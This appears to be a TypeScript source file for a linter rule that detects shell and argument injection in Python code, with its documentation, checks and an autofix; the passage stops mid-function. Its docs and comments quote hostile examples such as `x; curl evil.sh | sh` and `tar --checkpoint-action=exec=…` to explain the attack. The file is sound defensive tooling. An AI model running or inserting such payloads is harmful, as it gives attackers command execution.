import { defineRule, type EditSpec, type FixSpec, type Report } from '../rule';
import type { StringPart } from '../../semantic/model';
import { callArguments, calleeName, calleeReceiver, stringLiteralValue, stringPrefix, unparenthesize } from '../../syntax/python';
import { UnitNodeIndex } from '../../analysis/units';
import type { SyntaxNode } from '../../syntax/syntaxNode';
import { constantTruthiness } from '../support/call-arguments';
import { codeList, codeSnippet, shorten } from '../support/snippets';
import { percentConversions } from '../support/formatStrings';
import { SinkHits, flowReport, sourceKind, sourceOf, withFlow } from '../flowRule';
import type { FlowHit } from '../../flow/interpreter';
import { kindBit } from '../../flow/concepts';

/** `subprocess` functions that run through a shell when given `shell=True`. */
const SUBPROCESS_FUNCTIONS = new Set([
  'subprocess.call',
  'subprocess.run',
  'subprocess.Popen',
  'subprocess.check_call',
  'subprocess.check_output',
]);

/**
 * Functions that always run their command through a shell. `listMeansNoShell`: in Python 2 `os.popen2`
 * & co and the `popen2` module run a list directly, without a shell.
 */
const ALWAYS_SHELL = new Map<string, { readonly keywords: readonly string[]; readonly listMeansNoShell?: boolean }>([
  ['os.system', { keywords: ['command'] }],
  ['os.popen', { keywords: ['cmd'] }],
  ['os.popen2', { keywords: ['cmd'], listMeansNoShell: true }],
  ['os.popen3', { keywords: ['cmd'], listMeansNoShell: true }],
  ['os.popen4', { keywords: ['cmd'], listMeansNoShell: true }],
  ['popen2.popen2', { keywords: ['cmd'], listMeansNoShell: true }],
  ['popen2.popen3', { keywords: ['cmd'], listMeansNoShell: true }],
  ['popen2.popen4', { keywords: ['cmd'], listMeansNoShell: true }],
  ['popen2.Popen3', { keywords: ['cmd'], listMeansNoShell: true }],
  ['popen2.Popen4', { keywords: ['cmd'], listMeansNoShell: true }],
  ['commands.getoutput', { keywords: ['cmd'] }],
  ['commands.getstatusoutput', { keywords: ['cmd'] }],
  ['subprocess.getoutput', { keywords: ['cmd'] }],
  ['subprocess.getstatusoutput', { keywords: ['cmd'] }],
  ['asyncio.create_subprocess_shell', { keywords: ['cmd'] }],
]);

/** Functions that quote a value for a POSIX shell. */
const QUOTERS = new Set(['shlex.quote', 'pipes.quote', 'shlex.join']);

/** Values that are not data from outside and cannot carry shell syntax. */
const SAFE_NAMES = new Set(['sys.executable', 'os.devnull', 'os.sep', 'os.pathsep', 'os.curdir', 'os.pardir']);
const NUMERIC_CALLS = new Set(['os.getpid', 'os.getppid', 'os.getuid', 'os.geteuid', 'os.getgid', 'os.cpu_count']);

const POSIX_SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash', 'mksh', 'csh', 'tcsh', 'fish']);
const WINDOWS_CMD = new Set(['cmd', 'cmd.exe']);
const POWERSHELLS = new Set(['powershell', 'powershell.exe', 'pwsh', 'pwsh.exe']);
/** Programs that run the rest of their arguments as a command: `env FOO=1 bash -c ...`, `sudo sh -c ...`. */
const WRAPPERS = new Set(['env', 'sudo', 'nohup', 'nice', 'exec']);

/** Commands whose options can be smuggled in as file names when a `*` expands (Bandit B609). */
const WILDCARD_SENSITIVE = new Set(['tar', 'chown', 'chmod', 'chgrp', 'rsync']);

/**
 * Words that are shell builtins or keywords (POSIX shells and `cmd.exe`): without a shell there is no program by
 * that name, so a command starting with one keeps needing the shell and gets no fix.
 */
const SHELL_BUILTINS = new Set([
  // POSIX sh / bash
  '.', ':', 'alias', 'bg', 'bind', 'break', 'builtin', 'caller', 'case', 'cd', 'command', 'compgen', 'complete',
  'continue', 'declare', 'dirs', 'disown', 'do', 'done', 'echo', 'elif', 'else', 'enable', 'esac', 'eval', 'exec',
  'exit', 'export', 'fc', 'fg', 'fi', 'for', 'function', 'getopts', 'hash', 'help', 'history', 'if', 'in', 'jobs',
  'let', 'local', 'logout', 'mapfile', 'popd', 'printf', 'pushd', 'read', 'readarray', 'readonly', 'return',
  'select', 'set', 'shift', 'shopt', 'source', 'suspend', 'test', 'then', 'time', 'times', 'trap', 'type',
  'typeset', 'ulimit', 'umask', 'unalias', 'unset', 'until', 'wait', 'while',
  // cmd.exe
  'assoc', 'call', 'chdir', 'cls', 'color', 'copy', 'date', 'del', 'dir', 'endlocal', 'erase', 'ftype', 'goto',
  'md', 'mkdir', 'mklink', 'move', 'path', 'pause', 'prompt', 'rd', 'rem', 'ren', 'rename', 'rmdir', 'setlocal',
  'start', 'title', 'ver', 'verify', 'vol',
]);

/**
 * Programs that are usually batch files on Windows (`npm.cmd`, `gradle.bat`): `cmd.exe` finds them, but without a
 * shell Windows only starts `.exe` files, so an argument list would fail there. No fix for these.
 */
const WINDOWS_BATCH_TOOLS = new Set([
  'npm', 'npx', 'pnpm', 'yarn', 'code', 'mvn', 'gradle', 'gradlew', 'conda', 'activate', 'ng', 'tsc', 'eslint',
  'prettier', 'jest', 'webpack', 'vite', 'react-scripts', 'ant', 'mvnw', 'flutter', 'dart', 'az', 'gcloud', 'firebase',
]);

/** A command the fix can turn into an argument list word for word: plain words separated by spaces. */
const PLAIN_COMMAND = /^ *[A-Za-z0-9_./=:,+@%-]+(?: +[A-Za-z0-9_./=:,+@%-]+)* *$/;

type QuoteState = 'none' | 'single' | 'double';

/** What a shell command is made of, as far as injection goes. */
type Verdict =
  /** Built only from constants and quoted or numeric values: nothing to report. */
  | { readonly kind: 'safe' }
  /** Always the same text (`text` is null when it is a constant Vigil cannot spell out); `display` is for messages. */
  | { readonly kind: 'constant'; readonly text: string | null; readonly display: string }
  /** Built from data: `data` are the spliced values that are neither constant, numeric nor quoted. */
  | { readonly kind: 'dynamic'; readonly data: readonly SyntaxNode[]; readonly origin: SyntaxNode }
  /** A value Vigil cannot see into (a parameter, a call): the whole command may come from anywhere. */
  | { readonly kind: 'unknown'; readonly source: SyntaxNode | null };

/** How a command reaches a shell, for messages and per-occurrence codes. */
interface Channel {
  /** "through a shell (`shell=True`)", "through `bash -c`". */
  readonly how: string;
  readonly bandit: readonly string[];
  readonly ruff: readonly string[];
  /** Whether a constant command earns a low-severity note (prefer an argument list). */
  readonly noteConstant: boolean;
  /** What to suggest instead, for the constant-command note. */
  readonly instead: string;
  /** At most this confidence: a shell that runs only if an unknown flag is true. */
  readonly confidence?: 'low';
}

const MAX_DEPTH = 8;

export default defineRule({
  meta: {
    id: 'VG102',
    name: 'shell-injection',
    title: 'Shell command built from data',
    cwe: [78, 88],
    severity: 'high',
    confidence: 'high',
    status: 'stable',
    since: '0.1.0',
    bandit: ['B602', 'B605', 'B609'],
    ruff: ['S602', 'S605', 'S609'],
    fixable: true,
    docs: {
      whatItDoes:
        'Flags commands run through a shell — `subprocess` calls with `shell=True`, `os.system`, `os.popen`, `subprocess.getoutput`, `asyncio.create_subprocess_shell`, and explicit `sh -c`/`bash -c` argument lists — when the command is built from data. A constant command run through a shell gets a low-severity note. With the flow layer it also follows request data and program input (`sys.argv`) into any command, through helpers and lists: such a finding is high severity and carries the path; data that names the program is command injection, and data passed as an argument of an argument list without a `--` before it is argument injection (CWE-88: a value starting with `-` becomes an option, as `tar --checkpoint-action=exec=…`).',
      whyIsThisBad:
        'A shell reads its command as a little program: `;`, `|`, `&&`, `$(...)` and backquotes start new commands. When any part of the command comes from a user, a file name or a network peer, a value such as `x; curl evil.sh | sh` runs the attacker\'s commands with your process\'s rights. Quoting by hand (`"\'" + name + "\'"`) is easy to get wrong; an argument list never goes through a shell at all.',
      example:
        'import os\nimport subprocess\n\n\ndef ping(host):\n    os.system("ping -c 1 " + host)\n    return subprocess.check_output(f"dig +short {host}", shell=True)',
      useInstead:
        'import subprocess\n\n\ndef ping(host):\n    subprocess.run(["ping", "-c", "1", "--", host], check=False)\n    return subprocess.check_output(["dig", "+short", host])',
      references: [
        'https://cwe.mitre.org/data/definitions/78.html',
        'https://docs.python.org/3/library/subprocess.html#security-considerations',
        'https://docs.python.org/3/library/shlex.html#shlex.quote',
        'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html',
      ],
      knownProblems:
        'Trusted as spliced values: constants, numbers (`int(x)`, `%d`, `{n:d}`), `sys.executable`, and values passed through `shlex.quote`, `shlex.join` or `pipes.quote` — the latter only outside quotes in the template and only for POSIX shells (`shell=True` is assumed to mean `/bin/sh`; under `cmd /c` or PowerShell quoted values are still reported). A command Vigil cannot see into (a parameter passed straight through, the result of a call) is reported at medium severity and confidence, because it may or may not hold outside data. `shell=` is read as Python does (`"False"`, `[False]` and `1` are true; `False`, `0`, `None`, `""` are not); a value Vigil cannot read (`shell=flag`) gives the same finding at low confidence, and no note for a constant command. Not flagged: wrappers of your own that take `shell=True` (Bandit B604 flags every function with a `shell=True` argument; Vigil only flags `subprocess`), `loop.subprocess_shell`, `os.exec*`/`os.spawn*` with a shell whose path is not a constant, commands assembled through containers or loops (`parts.append(...)`) unless the flow layer sees request data or program input in them, and a constant script run with `sh -c` (it is a deliberate use of the shell). Wildcard injection (B609) is only reported for constant commands where a glob word starting with `*` is passed to `tar`, `chmod`, `chown`, `chgrp` or `rsync` without a `--` before it.',
      fixSafety:
        'Offered only for `subprocess` calls whose command is a string literal of plain words (letters, digits and `_./=:,+@%-`, no quotes, variables, globs, redirections or leading `VAR=value`) that does not start with a shell builtin, and without `executable=`. The command is split on spaces into a list and `shell=True` is removed. The program then runs the same way, found on `PATH` like the shell finds it. Differences that remain: a missing program raises `FileNotFoundError` instead of returning exit status 127, and on Windows a program that is a `.bat`/`.cmd` file is only found through the shell (the fix is withheld for the common ones: `npm`, `yarn`, `gradle`, `code`…).',
    },
  },
  usesFlow: true,
  create(context) {
    const { model } = context;
    /** Request data and program input reaching command sinks, by the flow layer (also through helpers and containers). */
    let sinkHits: SinkHits | undefined;
    const commandHits = (): SinkHits => (sinkHits ??= new SinkHits(context.flow.hits, 'command'));

    /**
     * The qualified name of what a call calls, with the builtin `map` (which the model's builtin list lacks)
     * recognised when nothing in the module binds the name.
     */
    const calleeOf = (call: SyntaxNode): string | null => {
      const resolved = model.calleeQualifiedName(call);
      if (resolved) return resolved;
      const fn = call.child('function');
      return fn?.type === 'identifier' && fn.text === 'map' && model.bindingsOf(fn).length === 0 ? 'map' : null;
    };

    /** Whether a spliced value cannot carry shell syntax, given the quotes it sits in. */
    const harmless = (node: SyntaxNode, state: QuoteState, posix: boolean, depth = 0): boolean => {
      if (depth > MAX_DEPTH) return false;
      const expr = unparenthesize(node);
      if (model.isConstant(expr) || model.isNumeric(expr) || formattedAsNumber(node)) return true;
      switch (expr.type) {
        case 'attribute': {
          const name = model.qualifiedName(expr);
          return !!name && SAFE_NAMES.has(name);
        }
        case 'call': {
          const callee = calleeOf(expr);
          if (!callee) return false;
          if (NUMERIC_CALLS.has(callee)) return true;
          // A quoted value is one shell word only outside quotes (inside '...' its own quotes end the string), and
          // only for POSIX shells: `cmd.exe` and PowerShell do not read `'...'` that way.
          if (QUOTERS.has(callee)) return state === 'none' && posix;
          if (callee === 'map') {
            const fn = callArguments(expr).positional[0];
            const fnName = fn ? model.qualifiedName(fn) : null;
            return !!fnName && QUOTERS.has(fnName) && state === 'none' && posix;
          }
          if (callee === 'str') {
            const inner = callArguments(expr).positional[0];
            return !!inner && model.isNumeric(inner);
          }
          return false;
        }
        case 'generator_expression':
        case 'list_comprehension': {
          // `" ".join(shlex.quote(a) for a in args)`
          const body = expr.child('body');
          return !!body && harmless(body, state, posix, depth + 1);
        }
        case 'identifier': {
          const value = model.singleValue(expr);
          return !!value && value !== expr && harmless(value, state, posix, depth + 1);
        }
        default:
          return false;
      }
    };

    /**
     * Whether a spliced value goes through a numeric conversion, which fails for anything but a number:
     * `"kill -9 %d" % pid`, `f"renice {nice:d} {pid}"` (for `nice`).
     */
    const formattedAsNumber = (node: SyntaxNode): boolean => {
      const parent = node.parent;
      if (parent?.type === 'interpolation' && node.field === 'expression') {
        const spec = parent.child('format_specifier');
        return !!spec && NUMERIC_FORMAT_SPEC.test(spec.text);
      }
      // `template % value` or `template % (a, b)`.
      let operand = node;
      while (operand.parent?.type === 'parenthesized_expression') operand = operand.parent;
      let index = 0;
      if (operand.parent?.type === 'tuple') {
        index = operand.parent.namedChildren.indexOf(operand);
        operand = operand.parent;
        while (operand.parent?.type === 'parenthesized_expression') operand = operand.parent;
      }
      const operation = operand.parent;
      if (operation?.type !== 'binary_operator' || operand.field !== 'right' || !operation.hasToken('%')) return false;
      const left = operation.child('left');
      const template = left ? model.constantText(left) : null;
      if (template === null) return false;
      const conversions = percentConversions(template);
      return conversions !== null && NUMERIC_CONVERSIONS.has(conversions[index] ?? '');
    };

    /** The values of a shape that could inject shell syntax, tracking the quotes each one sits in. */
    const unsafeValues = (parts: readonly StringPart[], posix: boolean): SyntaxNode[] => {
      let state: QuoteState = 'none';
      const unsafe: SyntaxNode[] = [];
      for (const part of parts) {
        if (part.kind === 'value') {
          if (!harmless(part.node, state, posix)) unsafe.push(part.node);
          continue;
        }
        const text = part.text;
        for (let i = 0; i < text.length; i++) {
          const ch = text[i];
          if (state === 'single') {
            if (ch === "'") state = 'none';
          } else if (state === 'double') {
            if (ch === '\\') i++;
            else if (ch === '"') state = 'none';
          } else if (ch === '\\') i++;
          else if (ch === "'") state = 'single';
          else if (ch === '"') state = 'double';
        }
      }
      return unsafe;
    };

    const isQuoterCall = (node: SyntaxNode): boolean => {
      const expr = unparenthesize(node);
      if (expr.type !== 'call') return false;
      const callee = calleeOf(expr);
      if (callee && QUOTERS.has(callee)) return true;
      const fn = callArguments(expr).positional[0];
      return callee === 'map' && !!fn && QUOTERS.has(model.qualifiedName(fn) ?? '');
    };

    /** Classifies a command expression (a string, or the name of one). */
    const judge = (command: SyntaxNode, posix: boolean, depth = 0): Verdict => {
      const expr = unparenthesize(command);
      if (depth > MAX_DEPTH) return { kind: 'unknown', source: null };
      if (model.isConstant(expr)) {
        // `'cls' if windows else 'clear'` has no single text.
        if (expr.type === 'conditional_expression') return { kind: 'constant', text: null, display: codeSnippet(expr, 60) };
        const text = model.constantText(expr);
        return { kind: 'constant', text, display: text === null ? codeSnippet(expr, 60) : shorten(text, 60) };
      }
      if (harmless(expr, 'none', posix)) return { kind: 'safe' };
      const shape = model.stringShape(expr);
      if (shape) {
        const values = shape.parts.filter((part) => part.kind === 'value');
        if (values.length === 0) {
          const text = shape.parts.map((part) => (part.kind === 'text' ? part.text : '')).join('');
          return { kind: 'constant', text, display: shorten(text, 60) };
        }
        const unsafe = unsafeValues(shape.parts, posix);
        if (unsafe.length === 0) return { kind: 'safe' };
        const onlyWhitespace = shape.parts.every((part) => part.kind === 'value' || part.text.trim() === '');
        if (onlyWhitespace && values.length === 1 && unsafe.length === 1 && unsafe[0] !== expr) {
          // `f"{cmd}"`, `" ".join(argv)`: the whole command is that one value.
          const inner = judge(unsafe[0]!, posix, depth + 1);
          return inner.kind === 'unknown' ? { kind: 'unknown', source: inner.source ?? unsafe[0]! } : inner;
        }
        return { kind: 'dynamic', data: unsafe, origin: shape.origin };
      }
      if (expr.type === 'identifier') {
        const value = model.singleValue(expr);
        if (value && value !== expr) {
          const inner = judge(value, posix, depth + 1);
          return inner.kind === 'unknown' ? { kind: 'unknown', source: inner.source ?? value } : inner;
        }
      }
      return { kind: 'unknown', source: null };
    };

    /**
     * The elements of a list or tuple literal, also through a name bound to one and then grown in order with
     * `+= [...]`, `.append(x)` and `.extend([...])` before the use (`argv = ["/bin/sh"]; argv.append("-c")`).
     */
    const listElements = (node: SyntaxNode): readonly SyntaxNode[] | null => {
      let expr = unparenthesize(node);
      if (expr.type === 'identifier') return grownList(expr);
      if (expr.type !== 'list' && expr.type !== 'tuple') return null;
      const elements = expr.namedChildren;
      // `[*base, cmd]`: positions are unknown.
      if (elements.some((element) => element.type === 'list_splat' || element.type === 'parenthesized_list_splat')) {
        return null;
      }
      return elements;
    };

    /** The unit's calls by receiver name (`argv.append(…)` under `argv`). */
    const callsOn = new UnitNodeIndex(context.unit, (node) => {
      const receiver = node.type === 'call' ? calleeReceiver(node) : null;
      return receiver?.type === 'identifier' ? receiver.text : null;
    });

    const grownList = (name: SyntaxNode): readonly SyntaxNode[] | null => {
      const bindings = model.bindingsOf(name);
      const first = bindings[0];
      if (!first || first.kind !== 'assignment' || !first.value) return null;
      const literal = (value: SyntaxNode | null): readonly SyntaxNode[] | null => {
        const list = value ? unparenthesize(value) : null;
        if (!list || (list.type !== 'list' && list.type !== 'tuple')) return null;
        return list.namedChildren.some((element) => element.type === 'list_splat' || element.type === 'parenthesized_list_splat') ? null : list.namedChildren;
      };
      const events: Array<{ at: number; items: readonly SyntaxNode[] | null }> = [{ at: first.node.start, items: literal(first.value) }];
      for (const binding of bindings.slice(1)) events.push({ at: binding.node.start, items: binding.kind === 'augmented' ? literal(binding.value) : null });
      const scope = model.scopeOf(name);
      for (const call of callsOn.get(name.text)) {
        if (call.start >= name.start || call.start < first.node.start || model.scopeOf(call) !== scope) continue;
        const method = calleeName(call);
        const argument = callArguments(call).positional[0];
        if (method === 'append' && argument) events.push({ at: call.start, items: [argument] });
        else if (method === 'extend' && argument) events.push({ at: call.start, items: literal(argument) });
        else if (method === 'insert' || method === 'remove' || method === 'pop' || method === 'clear' || method === 'reverse' || method === 'sort') events.push({ at: call.start, items: null });
      }
      events.sort((a, b) => a.at - b.at);
      const elements: SyntaxNode[] = [];
      for (const event of events) {
        if (!event.items) return null;
        elements.push(...event.items);
      }
      return elements;
    };

    const constantString = (node: SyntaxNode | undefined): string | null => {
      if (!node) return null;
      const expr = unparenthesize(node);
      return model.isConstant(expr) ? model.constantText(expr) : null;
    };

    /**
     * For an argument vector whose program is a shell, the argument that holds the shell command (the one after
     * `-c`, `/c` or `-Command`), with the way the shell was called. `program` overrides argv[0] (`executable=`).
     */
    const shellCommandIn = (
      argv: readonly SyntaxNode[],
      program?: string,
    ): { command: SyntaxNode; invocation: string; posix: boolean } | null => {
      const words = argv.map((node) => constantString(node));
      // argv[0] is only the name the program sees (`executable=` or the exec path is what runs); options start at argv[1].
      let index = 0;
      let name = program ?? words[0];
      // Skip wrappers: `env A=1 bash -c`, `sudo sh -c`.
      while (name !== null && name !== undefined && WRAPPERS.has(basename(name))) {
        const wrapper = basename(name);
        index++;
        // Options without values (`sudo -E`, `env -i`) and, for env, `NAME=value` settings.
        const skippable = (word: string): boolean => word.startsWith('-') || (wrapper === 'env' && /^\w+=/.test(word));
        while (index < words.length && words[index] != null && skippable(words[index]!)) index++;
        name = words[index];
      }
      if (name === null || name === undefined) return null;
      const shell = basename(name).toLowerCase();
      for (let i = index + 1; i < words.length; i++) {
        const word = words[i];
        if (word === null || word === undefined) return null;
        if (POSIX_SHELLS.has(shell)) {
          if (/^[-+]o$/.test(word) || /^[-+]O$/.test(word)) {
            i++;
            continue;
          }
          if (/^-[a-zA-Z]*c[a-zA-Z]*$/.test(word) && !word.startsWith('--')) {
            const command = argv[i + 1];
            return command ? { command, invocation: `${basename(name)} ${word}`, posix: true } : null;
          }
          if (/^[-+]/.test(word)) continue;
          return null; // a script file: `bash deploy.sh`
        }
        if (WINDOWS_CMD.has(shell)) {
          if (/^\/[ck]$/i.test(word)) {
            const command = argv[i + 1];
            return command ? { command, invocation: `${basename(name)} ${word}`, posix: false } : null;
          }
          if (word.startsWith('/')) continue;
          return null;
        }
        if (POWERSHELLS.has(shell)) {
          if (/^-(c|command)$/i.test(word)) {
            const command = argv[i + 1];
            return command ? { command, invocation: `${basename(name)} ${word}`, posix: false } : null;
          }
          if (/^-(executionpolicy|ep|ex|windowstyle|w|outputformat|of|inputformat|if|configurationname)$/i.test(word)) {
            i++;
            continue;
          }
          if (/^-(file|f|encodedcommand|e|ec)$/i.test(word)) return null;
          if (word.startsWith('-')) continue;
          return null;
        }
        return null;
      }
      return null;
    };

    /** Reports what a verdict calls for. */
    const judgeAndReport = (
      call: SyntaxNode,
      callee: string,
      command: SyntaxNode,
      channel: Channel,
      posix: boolean,
      fix?: () => FixSpec | null,
    ): void => {
      const verdict = judge(command, posix);
      const emit = (report: Report): void => context.report(channel.confidence ? { ...report, confidence: channel.confidence } : report);
      const label = `\`${callee}()\``;
      const codes = { bandit: channel.bandit, ruff: channel.ruff };
      // The flow layer's evidence for this call: where the data came from, and the path it took. A command this rule
      // judged safe (quoted, numeric) stays safe; one it could not see into is raised by it.
      const hit = commandHits().take(call);
      if (hit && verdict.kind === 'constant') {
        // Only constants as far as names go: data reached the command through a container or a call.
        emit(
          withFlow({ at: call, message: `${label} runs a command ${channel.how}, and data reaches it through a container or a call`, ...codes }, hit, 'high', context.meta),
        );
        return;
      }
      switch (verdict.kind) {
        case 'safe':
          return;
        case 'constant': {
          const wildcard = posix && verdict.text !== null ? wildcardInjection(verdict.text) : null;
          if (wildcard) {
            emit({
              at: call,
              message: `${label} runs \`${verdict.display}\` ${channel.how}: \`${wildcard.word}\` expands to file names, and a file named like an option (\`--checkpoint-action=...\`, \`--reference=...\`) becomes an option of \`${wildcard.program}\``,
              severity: 'medium',
              confidence: 'medium',
              bandit: ['B609'],
              ruff: ['S609'],
            });
            return;
          }
          if (!channel.noteConstant) return;
          const spelled = `the constant command \`${verdict.display}\``;
          const found = fix?.() ?? null;
          emit({
            at: call,
            message: `${label} runs ${spelled} ${channel.how}; ${channel.instead}`,
            severity: 'low',
            confidence: 'high',
            ...codes,
            ...(found ? { fix: found } : {}),
          });
          return;
        }
        case 'dynamic': {
          const quotedInQuotes = verdict.data.filter((node) => isQuoterCall(node));
          const names = codeList(verdict.data.map((node) => codeSnippet(dataLabel(node))));
          const note =
            quotedInQuotes.length === 0
              ? ''
              : posix
                ? `; \`${codeSnippet(quotedInQuotes[0]!)}\` sits inside quotes, where its own quoting no longer protects it`
                : `; \`${codeSnippet(quotedInQuotes[0]!)}\` quotes for POSIX shells, not for this one`;
          const related: NonNullable<Report['related']>[number][] = [];
          if (!call.contains(verdict.origin)) {
            related.push({ at: verdict.origin, message: 'the command is built here' });
          }
          const report: Report = {
            at: call,
            message: `${label} runs a command built from ${names} ${channel.how}${note}`,
            severity: 'high',
            confidence: 'high',
            ...codes,
            ...(related.length > 0 ? { related } : {}),
          };
          emit(withFlow(report, hit, 'high', context.meta));
          return;
        }
        case 'unknown': {
          const related: NonNullable<Report['related']>[number][] = [];
          if (verdict.source && !call.contains(verdict.source)) {
            related.push({ at: verdict.source, message: `\`${codeSnippet(unparenthesize(command))}\` comes from here` });
          }
          const shown = `${label} runs \`${codeSnippet(unparenthesize(command))}\` ${channel.how}`;
          const report: Report = {
            at: call,
            message: hit ? `${shown}: it can inject commands` : `${shown}; if any part of it comes from outside, it can inject commands`,
            severity: 'medium',
            confidence: 'medium',
            ...codes,
            ...(related.length > 0 ? { related } : {}),
          };
          emit(withFlow(report, hit, 'high', context.meta));
          return;
        }
      }
    };

    /** `sh -c <script>` and friends: an explicit shell has no Bandit/Ruff code and no note for constant scripts. */
    const reportExplicitShell = (call: SyntaxNode, callee: string, found: ReturnType<typeof shellCommandIn>): void => {
      if (!found) return;
      judgeAndReport(
        call,
        callee,
        found.command,
        { how: `through \`${found.invocation}\``, bandit: [], ruff: [], noteConstant: false, instead: '' },
        found.posix,
      );
    };

    /** The fix for `subprocess.X("plain words", shell=True)`: an argument list, no shell. */
    const argumentListFix = (call: SyntaxNode, command: SyntaxNode, shellArgument: SyntaxNode): FixSpec | null => {
      const args = callArguments(call);
      if (args.hasUnpacking || args.keywords.has('executable')) return null;
      if (command.type !== 'string') return null;
      const prefix = stringPrefix(command);
      if (/[bf]/.test(prefix)) return null;
      const value = stringLiteralValue(command);
      if (value === null || !PLAIN_COMMAND.test(value)) return null;
      const words = value.trim().split(/ +/);
      const program = words[0]!.toLowerCase();
      if (program.includes('=') || SHELL_BUILTINS.has(program) || WINDOWS_BATCH_TOOLS.has(basename(program))) return null;
      const quote = command.children.find((child) => child.type === 'string_start')?.text.replace(/^[a-zA-Z]*/, '')[0] ?? '"';
      const list = `[${words.map((word) => `${quote}${word}${quote}`).join(', ')}]`;
      const removal = removalSpan(shellArgument);
      if (!removal) return null;
      const edits: EditSpec[] = [{ start: command.start, end: command.end, newText: list }, { ...removal, newText: '' }];
      return { title: 'Run without a shell: pass an argument list', safety: 'safe', edits };
    };

    const onSubprocess = (call: SyntaxNode, callee: string): void => {
      const args = callArguments(call);
      const commandArgument = args.positional[0] ?? args.keywords.get('args');
      if (!commandArgument) return;
      const shellValue = args.keywords.get('shell');
      const shell = shellValue ? constantTruthiness(model, shellValue) : false;
      if (shell !== false && shellValue) {
        // `shell=` as Python reads it: `"False"` and `[False]` are true. A value Vigil cannot read (`shell=flag`)
        // may be true: the same judgement, at lower confidence, and no note for a constant command.
        const literal = shellValue.type === 'true';
        const how = literal
          ? 'through a shell (`shell=True`)'
          : shell
            ? `through a shell (\`shell=${codeSnippet(shellValue, 20)}\` is true)`
            : `through a shell if \`shell=${codeSnippet(shellValue, 20)}\` is true`;
        // With a list, the first element is the shell command; the rest become `$0`, `$1`…
        const elements = listElements(commandArgument);
        if (elements !== null && elements.length === 0) return;
        const command = elements ? elements[0]! : commandArgument;
        judgeAndReport(
          call,
          callee,
          command,
          {
            how,
            bandit: ['B602'],
            ruff: ['S602'],
            noteConstant: shell === true,
            instead: 'prefer an argument list without `shell=True`',
            ...(shell === null ? { confidence: 'low' as const } : {}),
          },
          true,
          () => (elements || !literal ? null : argumentListFix(call, unparenthesize(commandArgument), args.keywordNodes.get('shell')!)),
        );
        return;
      }
      const elements = listElements(commandArgument);
      if (!elements) return;
      const executable = args.keywords.get('executable');
      let program: string | undefined;
      if (executable) {
        const name = constantString(executable);
        if (name === null) return;
        program = name;
      }
      reportExplicitShell(call, callee, shellCommandIn(elements, program));
    };

    const onAlwaysShell = (call: SyntaxNode, callee: string): void => {
      const spec = ALWAYS_SHELL.get(callee)!;
      const args = callArguments(call);
      let command: SyntaxNode | undefined = args.positional[0];
      for (const keyword of spec.keywords) command ??= args.keywords.get(keyword);
      if (!command) return;
      const elements = listElements(command);
      if (elements) {
        if (spec.listMeansNoShell || elements.length === 0) return;
        command = elements[0]!;
      }
      judgeAndReport(
        call,
        callee,
        command,
        {
          how: 'through a shell',
          bandit: ['B605'],
          ruff: ['S605'],
          noteConstant: true,
          instead: 'prefer `subprocess.run()` with an argument list',
        },
        true,
      );
    };

    /** `os.execl("/bin/sh", "sh", "-c", cmd)`, `os.spawnv(os.P_WAIT, "/bin/bash", ["bash", "-c", cmd])`… */
    const onExecOrSpawn = (call: SyntaxNode, callee: string): void => {
      const fn = callee.slice(3);
      const match = /^(exec|spawn|posix_spawn)(l|v)?(p)?(e)?$/.exec(fn);
      if (!match) return;
      const [, family, style, , env] = match;
      const args = callArguments(call);
      if (args.hasUnpacking) return;
      const first = family === 'spawn' ? 1 : 0;
      const path = constantString(args.positional[first]);
      if (path === null) return;
      let argv: readonly SyntaxNode[] | null;
      if (family === 'posix_spawn') {
        argv = args.positional[1] ? listElements(args.positional[1]) : null;
      } else if (style === 'v') {
        argv = args.positional[first + 1] ? listElements(args.positional[first + 1]!) : null;
      } else if (style === 'l') {
        argv = args.positional.slice(first + 1, env ? -1 : undefined);
      } else {
        return;
      }
      if (!argv || argv.length === 0) return;
      reportExplicitShell(call, callee, shellCommandIn(argv, path));
    };

    /**
     * Untrusted data that reaches a command without going through a shell this rule judged: the program itself
     * (CWE-78), or an argument of an argument list, where a value starting with `-` becomes an option of the program
     * (`tar --checkpoint-action=exec=…`, `ssh -oProxyCommand=…`: argument injection, CWE-88).
     */
    const reportUnjudgedFlow = (hit: FlowHit): void => {
      const callee = model.calleeQualifiedName(hit.sink);
      const label = `\`${codeSnippet(hit.sink.child('function') ?? hit.sink, 40)}()\``;
      const args = callArguments(hit.sink);
      // Where the command or program is: `os.spawn*` take a mode first.
      const programIndex = callee?.startsWith('os.spawn') ? 1 : 0;
      const commandArgument = args.positional[programIndex] ?? args.keywords.get('args') ?? args.keywords.get('cmd');
      // `execute(*cmd)`: the vector is the splatted list.
      const carried = hit.argument.type === 'list_splat' && hit.argument.firstNamedChild() ? unparenthesize(hit.argument.firstNamedChild()!) : unparenthesize(hit.argument);
      // The environment of `os.execve(path, args, env)` and kin is not part of the command (CGI passes requests so).
      const environment = callee && /^os\.(posix_spawnp?$|(exec|spawn)\w*e$)/.test(callee)
        ? args.keywords.get('env') ?? (callee.startsWith('os.posix_spawn') ? args.positional[2] : args.positional.at(-1))
        : undefined;
      if (environment && unparenthesize(environment) === carried) return;
      let elements: readonly SyntaxNode[] | null;
      if (commandArgument && unparenthesize(commandArgument) === carried) {
        elements = listElements(carried);
        if (!elements) {
          context.report(flowReport(hit, 'high', `${label} runs a command that comes from ${sourceKind(hit)} (${sourceOf(hit)}): whoever sends it chooses the program and its arguments; run a fixed program and check the values against a fixed set`));
          return;
        }
      } else {
        // One argument of many (`os.execl(path, arg0, arg1…)`, `create_subprocess_exec(program, *args)`), or an
        // argument vector after the path (`os.execv(path, argv)`, whose first element is only the name it sees).
        const vector = listElements(carried);
        const program = args.positional[programIndex];
        elements = hit.argument.type === 'list_splat' ? vector : vector && program ? [program, ...vector.slice(1)] : args.positional.slice(programIndex);
        if (!elements) return;
      }
      const untrusted = (element: SyntaxNode): boolean => {
        const taint = context.flow.taintOf(element);
        return !!taint && (taint.kinds & (kindBit('remote') | kindBit('local'))) !== 0;
      };
      if (elements[0] && untrusted(elements[0])) {
        context.report(flowReport(hit, 'high', `${label} runs a program named by ${sourceKind(hit)} (${sourceOf(hit)}): whoever sends it chooses what runs; pick the program from a fixed set`));
        return;
      }
      const program = constantString(elements[0]);
      let endOfOptions = false;
      let previous: string | null = null;
      for (const element of elements.slice(1)) {
        const word = constantString(element);
        if (word === '--') endOfOptions = true;
        // `--format VALUE`: a value right after a long option is taken as that option's argument, even when it starts
        // with `-` (getopt_long). Short options are as often flags without one (`zip -r`, `tar -x`): still reported.
